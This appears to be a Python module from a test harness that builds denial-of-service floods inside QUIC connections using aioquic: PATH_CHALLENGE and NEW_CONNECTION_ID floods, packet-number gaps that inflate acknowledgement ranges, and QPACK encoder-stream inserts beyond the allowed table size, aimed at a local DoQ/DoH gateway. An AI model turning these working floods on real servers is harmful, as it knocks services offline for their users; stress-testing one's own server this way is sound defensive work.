"""Attacks from inside QUIC connections, for run.py: frames that cost the other side more than they cost their sender.

Needs aioquic, whose connection does no input or output of its own. What it would never send is written into its packets here.
"""
import os
import select
import socket
import ssl
import struct
import time

from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.quic.packet import QuicFrameType, QuicPacketType
from aioquic.tls import Epoch


class Flooding(QuicConnection):
    """A client's connection that fills a packet with `frames` each time it is asked for what to send."""

    frames, gap = None, 0

    def _write_application(self, builder, network_path, now):
        super()._write_application(builder, network_path, now)
        if not self._handshake_complete or self.frames is None:
            return
        builder.max_flight_bytes = None
        builder.start_packet(QuicPacketType.ONE_RTT, self._cryptos[Epoch.ONE_RTT])
        while builder.remaining_buffer_space > 64:
            kind, payload = self.frames()
            builder.start_frame(kind, capacity=len(payload) + 1).push_bytes(payload)

    def skip(self):
        """Leaves a gap in the numbers of packets: each is a range of its own in what the other side has to acknowledge."""
        self._packet_number += self.gap


def flood(door, alpn, frames, source, gap=0):
    """An attack that floods over one connection after another, each until the other side ends it or a thousand packets are sent."""
    def attack(gateway, until):
        sent = 0
        while time.monotonic() < until():
            sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            sender.bind((source, 0))
            target = ("127.0.0.1", gateway.ports[door])
            connection = Flooding(configuration=QuicConfiguration(
                is_client=True, alpn_protocols=[alpn], server_name="localhost", verify_mode=ssl.CERT_NONE))
            connection.connect(target, now=time.monotonic())
            connection.gap = gap
            until_here = min(until(), time.monotonic() + 5)
            for _ in range(1000):
                sent += converse(connection, sender, target)
                if connection._close_event or time.monotonic() > until_here:
                    break
                if connection._handshake_complete and connection.frames is None:
                    connection.frames = frames()
            sender.close()
        return sent
    return attack


def converse(connection, sender, target):
    """Sends what there is to send and reads what came, waiting a little until the handshake is complete; how many were sent."""
    out = connection.datagrams_to_send(now=time.monotonic())
    for datagram, _ in out:
        sender.sendto(datagram, target)
    connection.skip()
    wait = 0 if connection.frames else 0.05
    while select.select([sender], [], [], wait)[0]:
        connection.receive_datagram(sender.recv(4096), target, now=time.monotonic())
        wait = 0
    connection.handle_timer(now=time.monotonic())
    return len(out) if connection.frames else 0


def challenges():
    return lambda: (QuicFrameType.PATH_CHALLENGE, os.urandom(8))


def connection_ids():
    """Each asks for all before it to be retired, and so for an answer (RFC 9000 19.15)."""
    number = 8

    def following():
        nonlocal number
        number += 1
        varint = struct.pack("!I", number | 0x80000000)
        return QuicFrameType.NEW_CONNECTION_ID, varint + varint + b"\x08" + os.urandom(24)
    return following


def pings():
    return lambda: (QuicFrameType.PING, b"")


def encoder():
    """On QPACK's encoder stream: a table of the greatest size, and entries into it, though none was allowed (RFC 9204 4.3)."""
    offset = 0

    def following():
        nonlocal offset
        payload = (b"\x02\x3f\xe1\xff\x03" if offset == 0 else b"") + b"\x43abc\x03def" * 4
        before, offset = offset, offset + len(payload)
        # Stream 2 is the client's first of one direction; with offset and length.
        return QuicFrameType.STREAM_BASE | 6, b"\x02" + struct.pack("!I", before | 0x80000000) + struct.pack("!H", len(payload) | 0x4000) + payload
    return following


def attacks(source):
    """By name, as in run.py."""
    return {
        "quic path challenges": flood("doq", "doq", challenges, source),
        "quic connection ids": flood("doq", "doq", connection_ids, source),
        "quic ack ranges": flood("doq", "doq", pings, source, gap=1),
        "qpack": flood("doh", "h3", encoder, source),
    }
